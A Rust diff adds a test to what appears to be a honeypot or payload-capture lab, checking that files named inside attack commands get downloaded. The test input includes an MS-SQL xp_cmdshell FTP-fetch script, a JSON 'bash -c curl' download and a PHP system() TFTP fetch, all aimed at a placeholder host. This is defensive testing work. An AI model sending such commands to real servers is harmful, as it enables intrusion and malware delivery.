@@ -747,3 +747,39 @@ fn a_silent_server_does_not_hold_up_the_attacks_other_downloads() {
         assert!(lab.log().contains(&format!(":81/slow{n}: ")), "{}", lab.log());
     }
 }
+
+/// A TDS SQL batch packet (header, ALL_HEADERS, the batch in UTF-16LE), as an MS-SQL client
+/// sends it.
+fn tds_batch(sql: &str) -> Vec<u8> {
+    let mut p = vec![0x01, 0x01, 0, 0, 0, 0, 0x01, 0x00];
+    p.extend_from_slice(&[22, 0, 0, 0, 18, 0, 0, 0, 2, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1, 0, 0, 0]);
+    p.extend_from_slice(&utf16(sql));
+    let n = u16::try_from(p.len()).unwrap().to_be_bytes();
+    p[2..4].copy_from_slice(&n);
+    p
+}
+
+#[test]
+fn commands_inside_string_literals_are_fetched() {
+    if !needs("commands_inside_string_literals_are_fetched") {
+        return;
+    }
+    let (a, b, c) = (sample(41, 4100), sample(42, 2300), sample(43, 3100));
+    let lab = Lab::start(&[("l1.exe", &a), ("l2.bin", &b), ("l3.sh", &c)], "");
+    // MS-SQL: an FTP script through xp_cmdshell, the quote glued to its first word.
+    lab.attack(tds_batch(&format!(
+        "EXEC master..xp_cmdshell 'echo open {CLI4} 21>f.txt&echo user foo bar>>f.txt&echo binary>>f.txt&echo get l1.exe>>f.txt&echo bye>>f.txt&ftp -n -s:f.txt'"
+    )));
+    lab.expect_download("l1.exe", &a);
+    // A JSON body: the command with escaped quotes in a string value, through bash -c.
+    lab.attack(
+        format!(
+            "POST /api HTTP/1.1\r\nContent-Type: application/json\r\n\r\n{{\"cmd\":\"bash -c \\\"curl -o \\\\\\\"/tmp/lit2\\\\\\\" http:\\/\\/{CLI4}\\/l2.bin\\\"\"}}"
+        )
+        .into_bytes(),
+    );
+    lab.expect_download("lit2", &b);
+    // PHP system() with a TFTP fetch.
+    lab.attack(format!("<?php system('cd /tmp; tftp -g -r l3.sh -l lit3 {CLI4}'); ?>\n").into_bytes());
+    lab.expect_download("lit3", &c);
+}
